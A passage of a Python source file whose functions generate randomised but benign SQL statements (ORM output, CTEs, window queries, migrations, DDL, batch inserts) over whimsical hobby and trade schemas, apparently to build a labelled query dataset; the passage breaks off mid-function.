YURTS = ["Larch", "Rowan", "Birch", "Hazel", "Alder", "Willow"]
SHELLS = ["peony", "chrysanthemum", "crossette", "willow", "palm", "strobe", "kamuro"]


def mig_version(r):
    """A migration version as the tools print it: YYYYMMDDHHMMSS."""
    return int(rdate(r, 2023, 2025).replace("-", "") + "%02d%02d%02d" % (r.randint(0, 23), r.randint(0, 59), r.randint(0, 59)))


def complex_gens():
    G, add = registry()

    # ---- ORM output of the stacks above
    @add("cx14_prisma_findmany", "complex_orm_generated")
    def _(r):
        cols = r.sample(["lotNumber", "catalogueRef", "reserveCents", "hammerCents", "condition", "auctionId"], r.randint(2, 5))
        sel = ", ".join('"public"."PhilatelicLot"."%s"' % c for c in ["id"] + cols)
        n = 1
        conds = []
        for c in r.sample(["auctionId", "condition", "reserveCents"], r.randint(1, 2)):
            n += 1
            conds.append('"public"."PhilatelicLot"."%s" %s $%d' % (c, ">=" if c == "reserveCents" else "=", n - 1))
        return 'SELECT %s FROM "public"."PhilatelicLot" WHERE (%s) ORDER BY "public"."PhilatelicLot"."%s" %s LIMIT $%d OFFSET $%d' % (
            sel, " AND ".join(conds), r.choice(cols), r.choice(["ASC", "DESC"]), n, n + 1)

    @add("cx14_prisma_count", "complex_orm_generated")
    def _(r):
        return ('SELECT COUNT(*) AS "_count._all" FROM (SELECT "public"."Bid"."id" FROM "public"."Bid" WHERE "public"."Bid"."lotId" = $1 OFFSET $2) AS "sub"' if r.random() < 0.5 else
                'SELECT "public"."Bid"."bidderId", COUNT("public"."Bid"."id") AS "_count$id", MAX("public"."Bid"."amountCents") AS "_max$amountCents" FROM "public"."Bid" WHERE "public"."Bid"."lotId" IN (%s) GROUP BY "public"."Bid"."bidderId"' % ",".join("$%d" % (i + 1) for i in range(r.randint(1, 6))))

    @add("cx14_sequelize_findall", "complex_orm_generated")
    def _(r):
        return ('SELECT "id", "label", "tempC", "hatcheryId" FROM "HatcheryTanks" AS "Tank" WHERE "Tank"."hatcheryId" = %d AND "Tank"."label" LIKE %s ORDER BY "Tank"."%s" %s LIMIT %d;'
                % (r.randint(1, 9), q("%s%%" % r.choice(["Tank ", "Raceway ", "Hatch-"])), r.choice(["label", "tempC", "id"]), r.choice(["ASC", "DESC"]), r.choice([10, 25, 50])))

    @add("cx14_sequelize_include", "complex_orm_generated")
    def _(r):
        return ('SELECT "Tank"."id", "Tank"."label", "Readings"."id" AS "Readings.id", "Readings"."o2" AS "Readings.o2", "Readings"."readAt" AS "Readings.readAt" FROM "HatcheryTanks" AS "Tank" '
                'LEFT OUTER JOIN "Readings" AS "Readings" ON "Tank"."id" = "Readings"."tankId" AND "Readings"."readAt" > %s WHERE "Tank"."id" IN (%s);' % (q(ts(r) + ".000 +00:00"), ids(r, hi=300)))

    @add("cx14_sequelize_update", "complex_orm_generated")
    def _(r):
        return 'UPDATE "SmoltReleases" SET "count"=%d,"updatedAt"=%s WHERE "id" = %d' % (r.randint(100, 40000), q(ts(r) + ".%03d +00:00" % r.randint(0, 999)), r.randint(1, 9000))

    @add("cx14_typeorm_find", "complex_orm_generated")
    def _(r):
        cols = r.sample(["ear_mark", "born_year", "siida", "sex", "collar_id"], r.randint(2, 4))
        return ('SELECT %s FROM "reindeer" "r" WHERE "r"."siida" = $1 AND "r"."born_year" BETWEEN %d AND %d ORDER BY "r"."%s" %s LIMIT %d' % (
            ", ".join('"r"."%s" AS "r_%s"' % (c, c) for c in ["id"] + cols), r.randint(2010, 2018), r.randint(2019, 2025), r.choice(cols), r.choice(["ASC", "DESC"]), r.choice([10, 20, 100])))

    @add("cx14_typeorm_insert", "complex_orm_generated")
    def _(r):
        cols = ["calf_id", "marked_by"] + r.sample(["mark_code", "mother_id", "weight_kg"], r.randint(0, 3))
        return 'INSERT INTO "calf_markings"(%s, "marked_at") VALUES (%s, DEFAULT) RETURNING "marked_at", "id"' % (", ".join('"%s"' % c for c in cols), ", ".join("$%d" % (i + 1) for i in range(len(cols))))

    @add("cx14_drizzle_select", "complex_orm_generated")
    def _(r):
        return ('select "id", "carver", "row_position", "paint_layers" from "carousel_horses" where ("carousel_horses"."carver" = %s and "carousel_horses"."row_position" > %d) order by "carousel_horses"."id" %s limit %d'
                % (q(r.choice(["Charles Looff", "Frederick Savage", "Daniel Muller", "Charles Carmel"])), r.randint(0, 3), r.choice(["asc", "desc"]), r.choice([10, 24, 50])))

    @add("cx14_ecto_preload", "complex_orm_generated")
    def _(r):
        return ('SELECT t0."id", t0."handler", t0."dog_name", t0."points", t0."trial_id" FROM "trial_runs" AS t0 WHERE (t0."trial_id" = ANY(ARRAY[%s])) ORDER BY t0."trial_id", t0."points" DESC' % ids(r, hi=400))

    @add("cx14_ecto_update_all", "complex_orm_generated")
    def _(r):
        return 'UPDATE "trial_runs" AS t0 SET "points" = t0."points" + %d, "updated_at" = %s WHERE (t0."trial_id" = %d) AND (t0."course" = %s)' % (
            r.randint(-10, 10), q(ts(r)), r.randint(1, 400), q(r.choice(["International", "nursery", "open", "novice"])))

    @add("cx14_diesel_select", "complex_orm_generated")
    def _(r):
        return ('SELECT "ropewalk_orders"."order_no", "ropewalk_orders"."fibre", "ropewalk_orders"."length_m" FROM "ropewalk_orders" WHERE ("ropewalk_orders"."fibre" = $1 AND "ropewalk_orders"."diameter_mm" >= $2) '
                'ORDER BY "ropewalk_orders"."%s" DESC LIMIT $3' % r.choice(["order_no", "length_m", "diameter_mm"]))

    @add("cx14_efcore_npgsql", "complex_orm_generated")
    def _(r):
        return ('SELECT r."BundleId", r."ReedType", r."LengthCm" FROM "ReedBundles" AS r WHERE r."Supplier" = $1 AND r."LengthCm" > %d AND r."Status" <> %s ORDER BY r."LengthCm" DESC LIMIT $2'
                % (r.randint(60, 200), q(r.choice(["cancelled", "returned", "rotten"]))))

    @add("cx14_eloquent_eager", "complex_orm_generated")
    def _(r):
        return 'select * from "truffle_finds" where "truffle_finds"."dog_id" in (%s) and "truffle_finds"."deleted_at" is null order by "found_on" desc' % ids(r, hi=120)

    @add("cx14_spring_data_jpa", "complex_orm_generated")
    def _(r):
        return ("select s1_0.fitting_id,s1_0.horse_name,s1_0.tree_width,s1_0.fitted_on from saddle_fittings s1_0 where s1_0.customer_id=$1 and s1_0.tree_width in (%s) "
                "order by s1_0.fitted_on desc offset $2 rows fetch first $3 rows only" % ",".join("$%d" % (i + 4) for i in range(r.randint(1, 4))))

    @add("cx14_doctrine_dql", "complex_orm_generated")
    def _(r):
        return ("SELECT p0_.set_id AS set_id_0, p0_.tempo_bpm AS tempo_bpm_1, p0_.competition_grade AS competition_grade_2 FROM pipe_band_sets p0_ WHERE p0_.competition_grade = %s "
                "ORDER BY p0_.tempo_bpm %s LIMIT %d" % (q(r.choice(["Grade 1", "Grade 2", "Grade 3A", "Juvenile", "Novice B"])), r.choice(["ASC", "DESC"]), r.choice([10, 20, 30])))

    # ---- query builders
    @add("cx14_sqlx_querybuilder", "complex_query_builder")
    def _(r):
        n = r.randint(1, 6)
        return "SELECT tap_id, litres FROM sap_collections WHERE route_no IN (%s) AND collected_on >= $%d ORDER BY collected_on DESC" % (", ".join("$%d" % (i + 1) for i in range(n)), n + 1)

    @add("cx14_goqu_literal", "complex_query_builder")
    def _(r):
        return ('SELECT "booking_id", "yurt_id", "stay" FROM "wp_yurt_bookings" WHERE (("yurt_id" IN (%s)) AND ("stay" && \'[%s,%s)\'::daterange)) ORDER BY "booking_id" DESC LIMIT %d'
                % (ids(r, hi=14), rdate(r, 2024, 2024), rdate(r, 2025, 2025), r.choice([10, 20, 50])))

    @add("cx14_pypika_literal", "complex_query_builder")
    def _(r):
        return 'SELECT "pigment","ox_gall_drops" FROM "marbling_pigments" WHERE "ox_gall_drops">%d AND "pigment" ILIKE %s ORDER BY "pigment" LIMIT %d' % (
            r.randint(1, 30), q("%" + r.choice(["ochre", "indigo", "umber", "carmine", "lamp black"]) + "%"), r.choice([5, 10, 25]))

    @add("cx14_postgresjs_tagged", "complex_query_builder")
    def _(r):
        return r.choice(['select * from display_firing_cues where show_id = $1 and effect in ($2, $3) order by fire_offset',
                         'insert into display_firing_cues (show_id, cue_no, fire_offset, effect) values ($1, $2, $3, $4) returning *',
                         'update display_wind_limits set max_wind_kmh = $1 where site_ref = $2 returning site_ref, max_wind_kmh',
                         'select site_ref, max_wind_kmh from display_wind_limits where site_ref = any($1::text[]) order by %s' % r.choice(["site_ref", "max_wind_kmh desc"])])

    @add("cx14_hasql_statement", "complex_query_builder")
    def _(r):
        return r.choice(["SELECT note, cents FROM temperament_offsets WHERE temperament = $1 :: text ORDER BY note",
                         "INSERT INTO harpsichord_jacks (instrument_id, register, plectrum) VALUES ($1 :: int4, $2 :: text, $3 :: text) RETURNING jack_id",
                         "SELECT board_id, thickness_mm FROM soundboard_blanks WHERE thickness_mm BETWEEN $1 :: numeric AND $2 :: numeric ORDER BY thickness_mm %s" % r.choice(["ASC", "DESC"])])

    @add("cx14_gojet_literal", "complex_query_builder")
    def _(r):
        return ("SELECT shell.shell_code AS \"shell.shell_code\", shell.calibre_mm AS \"shell.calibre_mm\" FROM public.pyro_shell_inventory AS shell WHERE (shell.calibre_mm >= %d::integer) "
                "AND (shell.effect = %s::text) ORDER BY shell.calibre_mm DESC LIMIT %d::bigint" % (r.choice([50, 75, 100, 125]), q(r.choice(SHELLS)), r.choice([10, 20])))

    # ---- CTEs and windows
    @add("cx14_cte_sap_streaks", "complex_cte_window")
    def _(r):
        return ("WITH days AS (SELECT DISTINCT collected_on::date AS d FROM sap_collections WHERE route_no = %d), grp AS (SELECT d, d - (row_number() OVER (ORDER BY d))::int AS g FROM days) "
                "SELECT min(d) AS run_start, max(d) AS run_end, count(*) AS days FROM grp GROUP BY g HAVING count(*) >= %d ORDER BY run_start" % (r.randint(1, 20), r.randint(2, 6)))

    @add("cx14_window_running_litres", "complex_cte_window")
    def _(r):
        return ("SELECT route_no, collected_on, litres, sum(litres) OVER (PARTITION BY route_no ORDER BY collected_on ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running, "
                "litres - avg(litres) OVER w AS vs_avg FROM sap_collections WHERE collected_on >= %s WINDOW w AS (PARTITION BY route_no) ORDER BY route_no, collected_on" % q(rdate(r, 2023, 2025)))

    @add("cx14_window_range_interval", "complex_cte_window")
    def _(r):
        return ("SELECT tank_id, sampled_at, dissolved_o2, avg(dissolved_o2) OVER (PARTITION BY tank_id ORDER BY sampled_at RANGE BETWEEN INTERVAL '%d hours' PRECEDING AND CURRENT ROW) AS o2_smooth "
                "FROM hatchery_water_samples WHERE sampled_at > now() - interval '%d days'" % (r.choice([1, 3, 6, 12]), r.randint(1, 30)))

    @add("cx14_distinct_on_latest", "complex_cte_window")
    def _(r):
        return ("SELECT DISTINCT ON (c.collar_id) c.collar_id, f.fixed_at, f.lat, f.lon FROM gps_collars c JOIN collar_fixes f ON f.collar_id = c.collar_id WHERE f.fixed_at > %s "
                "ORDER BY c.collar_id, f.fixed_at DESC" % q(ts(r, 2024, 2025)))

    @add("cx14_lateral_top_bids", "complex_cte_window")
    def _(r):
        return ("SELECT l.lot_number, b.bidder_id, b.amount_cents FROM philatelic_lots l CROSS JOIN LATERAL (SELECT bidder_id, amount_cents FROM bids WHERE bids.lot_id = l.id ORDER BY amount_cents DESC LIMIT %d) b "
                "WHERE l.auction_id = %d ORDER BY l.lot_number, b.amount_cents DESC" % (r.randint(1, 3), r.randint(1, 90)))

    @add("cx14_recursive_splices", "complex_cte_window")
    def _(r):
        return ("WITH RECURSIVE chain(order_no, parent_no, depth, path) AS (SELECT order_no, parent_no, 0, ARRAY[order_no] FROM ropewalk_orders WHERE order_no = %d UNION ALL "
                "SELECT o.order_no, o.parent_no, c.depth + 1, c.path || o.order_no FROM ropewalk_orders o JOIN chain c ON o.parent_no = c.order_no WHERE c.depth < %d) "
                "SELECT * FROM chain ORDER BY depth, order_no" % (r.randint(100, 9000), r.randint(3, 12)))

    @add("cx14_cte_materialized_chain", "complex_cte_window")
    def _(r):
        return ("WITH recent AS MATERIALIZED (SELECT * FROM truffle_finds WHERE found_on >= current_date - %d), per_dog AS NOT MATERIALIZED (SELECT dog_id, sum(weight_g) AS g, count(*) AS n FROM recent GROUP BY dog_id) "
                "SELECT d.name, p.g, p.n, ntile(4) OVER (ORDER BY p.g DESC) AS quartile FROM per_dog p JOIN hunting_dogs d ON d.id = p.dog_id ORDER BY p.g DESC" % r.randint(7, 120))

    @add("cx14_window_groups_frame", "complex_cte_window")
    def _(r):
        return ("SELECT handler, trial_id, points, max(points) OVER (PARTITION BY handler ORDER BY trial_id GROUPS BETWEEN %d PRECEDING AND CURRENT ROW EXCLUDE TIES) AS best_recent, "
                "percent_rank() OVER (PARTITION BY trial_id ORDER BY points) AS pr FROM trial_runs WHERE course = %s" % (r.randint(1, 4), q(r.choice(["International", "nursery", "open"]))))

    @add("cx14_filter_pivot", "complex_cte_window")
    def _(r):
        return ("SELECT date_trunc('%s', fitted_on) AS period, count(*) FILTER (WHERE tree_width = 'narrow') AS narrow, count(*) FILTER (WHERE tree_width = 'medium') AS medium, "
                "count(*) FILTER (WHERE tree_width IN ('wide', 'XW')) AS wide FROM saddle_fittings WHERE fitted_on >= %s GROUP BY 1 ORDER BY 1" % (r.choice(["month", "quarter", "week"]), q(rdate(r, 2022, 2025))))

    # ---- set-operation reports
    @add("cx14_union_activity_board", "complex_union_report")
    def _(r):
        d = q(rdate(r, 2024, 2025))
        return ("SELECT 'boil' AS kind, boil_id AS ref, queued_at AS at FROM evaporator_boil_queue WHERE queued_at >= %s UNION ALL SELECT 'collection', tap_id, collected_at FROM sap_collections "
                "WHERE collected_at >= %s UNION ALL SELECT 'grade', barrel_no, filled_on::timestamptz FROM syrup_barrels WHERE filled_on >= %s ORDER BY at DESC LIMIT %d" % (d, d, d, r.choice([25, 50, 100])))

    @add("cx14_except_unmarked", "complex_union_report")
    def _(r):
        return ("SELECT calf_id FROM calves WHERE born_year = %d AND siida = %s EXCEPT SELECT calf_id FROM calf_markings WHERE marked_at IS NOT NULL ORDER BY 1"
                % (r.randint(2019, 2025), q(r.choice(SIIDA))))

    @add("cx14_intersect_members", "complex_union_report")
    def _(r):
        return ("(SELECT member_no FROM philatelic_members WHERE joined_on < %s) INTERSECT (SELECT member_no FROM auction_registrations WHERE auction_id = %d) ORDER BY member_no LIMIT %d"
                % (q(rdate(r, 2015, 2024)), r.randint(1, 90), r.choice([20, 100])))

    @add("cx14_union_values_totals", "complex_union_report")
    def _(r):
        return ("SELECT drone, count(*) AS n FROM drone_tuning_log WHERE tuned_at >= %s GROUP BY drone UNION ALL VALUES ('total', (SELECT count(*) FROM drone_tuning_log WHERE tuned_at >= %s)) ORDER BY 2 DESC"
                % ((lambda d: (d, d))(q(rdate(r, 2024, 2025)))))

    # ---- builtin-function heavy statements
    @add("cx14_builtin_regexp15", "complex_builtin_funcs")
    def _(r):
        s = r.choice(PEOPLE + TUNES + RIVERS)
        return r.choice([
            "SELECT regexp_count(%s, '[aeiou]', 1, 'i'), regexp_instr(%s, ' '), regexp_substr(%s, '\\w+', 1, 2)" % (q(s), q(s), q(s)),
            "SELECT regexp_like(%s, '^[A-Z]'), regexp_replace(%s, '(\\w+) (\\w+)', '\\2 \\1')" % (q(s), q(s)),
            "SELECT starts_with(%s, %s), split_part(%s, ' ', -1), btrim(%s, 'aeiou')" % (q(s), q(s[:2]), q(s), q(s)),
            "SELECT string_agg(w, '|' ORDER BY w) FROM string_to_table(%s, ' ') AS w" % q(s)])

    @add("cx14_builtin_time", "complex_builtin_funcs")
    def _(r):
        return r.choice([
            "SELECT date_bin('%d minutes', %s::timestamptz, '2020-01-01 00:00+00'), extract(julian FROM %s::date)" % (r.choice([10, 20, 45]), q(ts(r) + "+00"), q(rdate(r))),
            "SELECT make_timestamp(%d, %d, %d, %d, %d, %d.5), justify_hours(interval '%d hours')" % (r.randint(2000, 2030), r.randint(1, 12), r.randint(1, 28), r.randint(0, 23), r.randint(0, 59), r.randint(0, 58), r.randint(25, 500)),
            "SELECT %s::timestamptz AT TIME ZONE %s, to_char(%s::date, 'IYYY-\"W\"IW-ID')" % (q(ts(r) + "+00"), q(r.choice(["Europe/Oslo", "America/Toronto", "Asia/Tokyo", "Pacific/Auckland"])), q(rdate(r))),
            "SELECT (%s::date, interval '%d days') OVERLAPS (%s::date, interval '%d days')" % (q(rdate(r, 2024, 2024)), r.randint(1, 90), q(rdate(r, 2024, 2024)), r.randint(1, 90)),
            "SELECT age(%s::timestamp, %s::timestamp), date_part('dow', %s::date)" % (q(ts(r, 2025, 2025)), q(ts(r, 2019, 2023)), q(rdate(r)))])

    @add("cx14_builtin_jsonb", "complex_builtin_funcs")
    def _(r):
        g = r.randint(5, 90)
        return r.choice([
            "SELECT jsonb_path_query(%s::jsonb, '$.meals[*] ? (@.grams > %d).at')" % (q('{"meals": [{"at": "06:00", "grams": %d}, {"at": "18:00", "grams": %d}]}' % (r.randint(1, 99), r.randint(1, 99))), g),
            "SELECT jsonb_set_lax('{\"a\": 1}'::jsonb, '{b}', %s, true, 'use_json_null'), jsonb_insert('[1, 2]', '{1}', '%d')" % (r.choice(["NULL", "'2'"]), g),
            "SELECT key, value FROM jsonb_each(%s::jsonb) ORDER BY key" % q('{"aroma": %d, "firmness": %d, "grade": "%s"}' % (r.randint(1, 10), r.randint(1, 10), r.choice(["extra", "first"]))),
            "SELECT jsonb_path_exists(%s::jsonb, '$[*] ? (@.phase == \"%s\")'), json_strip_nulls('{\"x\": null, \"y\": %d}')" % (q('[{"phase": "shed"}, {"phase": "pen"}]'), r.choice(["shed", "pen", "lift"]), g),
            "SELECT to_jsonb(ROW(%d, %s)), jsonb_agg(x ORDER BY x DESC) FROM generate_series(1, %d) x" % (g, q(r.choice(TUNES)), r.randint(2, 8))])

    @add("cx14_builtin_ranges", "complex_builtin_funcs")
    def _(r):
        a = r.randint(1, 50)
        b = a + r.randint(1, 50)
        return r.choice([
            "SELECT range_merge(int4range(%d, %d), int4range(%d, %d)), lower_inc(int4range(%d, %d, '(]'))" % (a, b, b, b + 7, a, b),
            "SELECT daterange(%s, %s) * daterange(%s, NULL), upper_inf(daterange(%s, NULL))" % (q(rdate(r, 2024, 2024)), q(rdate(r, 2025, 2025)), q(rdate(r, 2024, 2025)), q(rdate(r))),
            "SELECT int4multirange(int4range(%d, %d), int4range(%d, %d)) @> %d" % (a, b, b + 5, b + 9, a + 1),
            "SELECT tstzrange(%s, %s) && tstzrange(%s, %s, '[]')" % (q(ts(r, 2024, 2024)), q(ts(r, 2025, 2025)), q(ts(r, 2024, 2025)), q(ts(r, 2026, 2026)))])

    @add("cx14_builtin_misc", "complex_builtin_funcs")
    def _(r):
        return r.choice([
            "SELECT width_bucket(%d.%d, ARRAY[0, 50, 75, 90]), trunc(%d.%04d, 2), log(2, %d)" % (r.randint(0, 99), r.randint(0, 9), r.randint(0, 999), r.randint(0, 9999), r.choice([8, 64, 1024])),
            "SELECT host(%s::inet), broadcast(%s::inet), set_masklen(%s::cidr, %d)" % ((lambda v: (q(v), q(v), q(v.rsplit("/", 1)[0].rsplit(".", 1)[0] + ".0/24"), r.choice([16, 20, 24])))("10.%d.%d.%d/24" % (r.randint(0, 255), r.randint(0, 255), r.randint(1, 254)))),
            "SELECT array_append(ARRAY[%s], %d), array_cat(ARRAY[1, 2], ARRAY[%d]), trim_array(ARRAY[%s], 1)" % (ids(r, 3, 99), r.randint(1, 99), r.randint(1, 99), ids(r, 4, 99)),
            "SELECT num_nulls(%s), num_nonnulls(%s), pg_column_size(%s::text)" % (", ".join(r.choice(["NULL", "1", "'x'"]) for _ in range(4)), ", ".join(r.choice(["NULL", "2", "'y'"]) for _ in range(3)), q(r.choice(NOTES))),
            "SELECT md5(%s), encode(sha256(%s::bytea), 'hex'), to_hex(%d)" % (q(r.choice(PEOPLE)), q(rword(r, 8)), r.randint(0, 10 ** 6))])

    # ---- comments and hints
    @add("cx14_comment_sqlc_name", "complex_comments_hints")
    def _(r):
        nm, body = r.choice([("GetTrialRuns", "SELECT id, handler, dog_name, points FROM trial_runs WHERE trial_id = $1 ORDER BY points DESC"),
                             ("ListBookingsForYurt", "SELECT booking_id, stay FROM wp_yurt_bookings WHERE yurt_id = $1 AND stay && $2::daterange"),
                             ("CreateReedBundle", "INSERT INTO reed_bundles (supplier, reed_type, length_cm) VALUES ($1, $2, $3) RETURNING bundle_id"),
                             ("CountShells", "SELECT count(*) FROM pyro_shell_inventory WHERE effect = $1")])
        return "-- name: %s :%s\n%s" % (nm, r.choice(["many", "one", "exec"]) if not nm.startswith("Count") else "one", body)

    @add("cx14_comment_typeorm_prefix", "complex_comments_hints")
    def _(r):
        return '/* %s */ SELECT "c"."collar_id" AS "c_collar_id", "c"."battery_pct" AS "c_battery_pct" FROM "gps_collars" "c" WHERE "c"."battery_pct" < %d ORDER BY "c"."battery_pct" ASC' % (
            r.choice(["collar-low-battery", "herd-dashboard", "nightly-check"]), r.randint(5, 40))

    @add("cx14_comment_sqlcommenter", "complex_comments_hints")
    def _(r):
        fw = r.choice(["spring-boot%3A3.2.1", "express%3A4.19.2", "laravel%3A11.0", "prisma%3A5.10.0"])
        return ("SELECT hide_lot, tannery FROM leather_hide_lots WHERE tannery = %s /*db_driver='%s',framework='%s',route='%%2Fhides%%2F%%3Aid',traceparent='00-%032x-%016x-01'*/"
                % (q(r.choice(["Sedgwick", "Bakers of Colyton", "Thomas Ware"])), r.choice(["pgjdbc", "pg", "pdo_pgsql"]), fw, r.getrandbits(128), r.getrandbits(64)))

    @add("cx14_comment_marginalia", "complex_comments_hints")
    def _(r):
        return ("SELECT booking_id, yurt_id FROM wp_yurt_bookings WHERE yurt_id = %d /*application:Yurts,controller:%s,action:%s,line:/app/%s.php:%d*/"
                % (r.randint(1, 14), r.choice(["bookings", "admin", "calendar"]), r.choice(["index", "show", "export"]), r.choice(["booking", "calendar"]), r.randint(10, 400)))

    @add("cx14_comment_hint_plan", "complex_comments_hints")
    def _(r):
        return "/*+ %s */ SELECT t.tank_id, avg(s.dissolved_o2) FROM hatchery_tanks t JOIN hatchery_water_samples s ON s.tank_id = t.tank_id WHERE s.sampled_at > %s GROUP BY t.tank_id" % (
            r.choice(["BitmapScan(s)", "IndexOnlyScan(t hatchery_tanks_pkey)", "Parallel(s 4 hard)", "Set(enable_seqscan off)", "MergeJoin(t s) Leading(t s)", "NoNestLoop(t s)"]), q(ts(r, 2024, 2025)))

    @add("cx14_comment_multiline_doc", "complex_comments_hints")
    def _(r):
        return ("/*\n * Report: reeds below length spec\n * Owner: %s\n */\nSELECT \"BundleId\", \"LengthCm\"\n  FROM \"ReedBundles\" -- thatch stock\n WHERE \"LengthCm\" < %d\n ORDER BY \"LengthCm\""
                % (r.choice(["yard office", "ops", "M. Gagnon"]), r.randint(90, 160)))

    @add("cx14_comment_trailing_note", "complex_comments_hints")
    def _(r):
        return "UPDATE tack_repair_queue SET claimed_by = %s WHERE repair_id = %d -- %s" % (q(r.choice(PEOPLE)), r.randint(1, 9999), r.choice(NOTES).replace("\n", " "))

    @add("cx14_comment_nested_block", "complex_comments_hints")
    def _(r):
        return "SELECT cue_no, effect /* see /* nested */ cue sheet v%d */ FROM display_firing_cues WHERE show_id = %d ORDER BY cue_no" % (r.randint(1, 9), r.randint(1, 800))

    # ---- migrations
    @add("cx14_migration_prisma", "complex_migration_script")
    def _(r):
        return r.choice([
            'INSERT INTO "_prisma_migrations" ("id", "checksum", "migration_name", "started_at", "applied_steps_count") VALUES (%s, %s, %s, now(), 0)' % (
                q("%08x-%04x-4%03x-a%03x-%012x" % (r.getrandbits(32), r.getrandbits(16), r.getrandbits(12), r.getrandbits(12), r.getrandbits(48))), q("%064x" % r.getrandbits(256)),
                q("%d_%s" % (mig_version(r), r.choice(["add_bids", "watermark_fts", "lot_condition"])))),
            'UPDATE "_prisma_migrations" SET "finished_at" = now(), "applied_steps_count" = %d WHERE "id" = %s' % (r.randint(1, 9), q("%032x" % r.getrandbits(128)))])

    @add("cx14_migration_liquibase", "complex_migration_script")
    def _(r):
        return r.choice([
            "UPDATE public.databasechangeloglock SET LOCKED = TRUE, LOCKEDBY = %s, LOCKGRANTED = NOW() WHERE ID = 1 AND LOCKED = FALSE" % q("saddlery-%d (10.0.%d.%d)" % (r.randint(1, 9), r.randint(0, 255), r.randint(1, 254))),
            "UPDATE public.databasechangeloglock SET LOCKED = FALSE, LOCKEDBY = NULL, LOCKGRANTED = NULL WHERE ID = 1 AND LOCKEDBY = %s" % q("saddlery-%d (10.0.%d.%d)" % (r.randint(1, 9), r.randint(0, 255), r.randint(1, 254))),
            "INSERT INTO public.databasechangelog (ID, AUTHOR, FILENAME, DATEEXECUTED, ORDEREXECUTED, MD5SUM, DESCRIPTION, EXECTYPE, LIQUIBASE) VALUES (%s, %s, 'db/changelog/master.xml', NOW(), %d, %s, 'addColumn tableName=saddle_fittings', 'EXECUTED', '4.25.1')" % (
                q(str(r.randint(1, 999))), q(r.choice(["gsmith", "ops", "dev-team"])), r.randint(1, 300), q("9:%032x" % r.getrandbits(128)))])

    @add("cx14_migration_sqlx", "complex_migration_script")
    def _(r):
        v = mig_version(r)
        return r.choice([
            "INSERT INTO _sqlx_migrations ( version, description, success, checksum, execution_time ) VALUES ( %d, %s, TRUE, %s, -1 )" % (v, q(r.choice(["sap readings", "boil queue", "grading bands"])), "'\\x%s'" % ("%096x" % r.getrandbits(384))),
            "UPDATE _sqlx_migrations SET execution_time = %d WHERE version = %d" % (r.randint(1000, 9000000), v)])

    @add("cx14_migration_ecto_laravel", "complex_migration_script")
    def _(r):
        return r.choice([
            'INSERT INTO "schema_migrations" ("version","inserted_at") VALUES (%d,%s)' % (mig_version(r), q(ts(r))),
            'insert into "migrations" ("migration", "batch") values (%s, %d)' % (q("%d_%02d_%02d_%06d_create_%s_table" % (r.randint(2023, 2025), r.randint(1, 12), r.randint(1, 28), r.randint(0, 235959), r.choice(["truffle_finds", "hunting_dogs", "truffle_lots"]))), r.randint(1, 40)),
            'INSERT INTO "SequelizeMeta" ("name") VALUES (%s) RETURNING "name"' % q("%d-%s.js" % (mig_version(r), r.choice(["create-tanks", "add-feed-plans", "smolt-releases"]))),
            'INSERT INTO "__diesel_schema_migrations" ("version") VALUES (%s)' % q(str(mig_version(r)))])

    @add("cx14_migration_alter", "complex_migration_script")
    def _(r):
        return r.choice([
            "ALTER TABLE wp_yurt_bookings ADD CONSTRAINT wp_yurt_bookings_no_overlap EXCLUDE USING gist (yurt_id WITH =, stay WITH &&)",
            "ALTER TABLE pyro_shell_inventory ADD COLUMN IF NOT EXISTS hazard_division text NOT NULL DEFAULT %s" % q(r.choice(["1.3G", "1.4G", "1.4S"])),
            "ALTER TABLE saddle_fittings ADD CONSTRAINT saddle_fittings_customer_fk FOREIGN KEY (customer_id) REFERENCES customers (id) NOT VALID",
            "ALTER TABLE trial_runs ALTER COLUMN points TYPE numeric(5,1) USING points::numeric(5,1)",
            "ALTER TABLE reindeer RENAME COLUMN earmark TO ear_mark",
            "CREATE INDEX CONCURRENTLY IF NOT EXISTS sap_collections_route_day_idx ON sap_collections (route_no, collected_on DESC) INCLUDE (litres)",
            "ALTER TABLE carousel_horses SET (fillfactor = %d)" % r.choice([70, 80, 90])])

    @add("cx14_ddl_create", "complex_ddl_migration")
    def _(r):
        t = r.choice(["sap_line_readings", "rope_break_tests", "truffle_market_prices", "hatchery_night_shifts"])
        return ("CREATE TABLE IF NOT EXISTS %s_archive (LIKE %s INCLUDING DEFAULTS INCLUDING CONSTRAINTS, archived_at timestamptz NOT NULL DEFAULT now()) PARTITION BY RANGE (archived_at)" % (t, t)
                if r.random() < 0.4 else
                "CREATE TABLE IF NOT EXISTS %s (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, label text NOT NULL UNIQUE NULLS NOT DISTINCT, during tstzrange NOT NULL, "
                "meta jsonb NOT NULL DEFAULT '{}', CHECK (NOT isempty(during)))" % r.choice(["yurt_maintenance_windows", "show_blackouts", "pasture_closures", "reed_harvests"]))

    @add("cx14_ddl_types", "complex_ddl_migration")
    def _(r):
        return r.choice([
            "CREATE TYPE shell_effect AS ENUM (%s)" % ", ".join(q(x) for x in r.sample(SHELLS, 4)),
            "CREATE DOMAIN brix AS numeric(4,1) CHECK (VALUE BETWEEN 0 AND %d)" % r.choice([70, 80]),
            "CREATE INDEX IF NOT EXISTS marbling_pigments_recipe_gin ON marbling_pigments USING gin (recipe jsonb_path_ops)",
            "CREATE UNIQUE INDEX IF NOT EXISTS calf_markings_one_per_calf ON calf_markings (calf_id) WHERE marked_at IS NOT NULL",
            "CREATE VIEW active_fittings WITH (security_invoker = true) AS SELECT fitting_id, horse_name FROM saddle_fittings WHERE fitted_on > current_date - %d" % r.choice([90, 180, 365])])

    # ---- batch inserts
    @add("cx14_batch_values", "complex_batch_insert")
    def _(r):
        rows = ", ".join("(%d, %s, %d.%d)" % (r.randint(1, 40), q(ts(r)), r.randint(5, 14), r.randint(0, 9)) for _ in range(r.randint(3, 8)))
        return "INSERT INTO hatchery_water_samples (tank_id, sampled_at, dissolved_o2) VALUES %s" % rows

    @add("cx14_batch_recordset", "complex_batch_insert")
    def _(r):
        js = "[" + ", ".join('{"cue_no": %d, "effect": "%s"}' % (i + 1, r.choice(SHELLS)) for i in range(r.randint(2, 5))) + "]"
        return "INSERT INTO display_firing_cues (show_id, cue_no, effect) SELECT %d, x.cue_no, x.effect FROM jsonb_to_recordset(%s::jsonb) AS x(cue_no int, effect text)" % (r.randint(1, 900), q(js))

    @add("cx14_batch_upsert_nothing", "complex_batch_insert")
    def _(r):
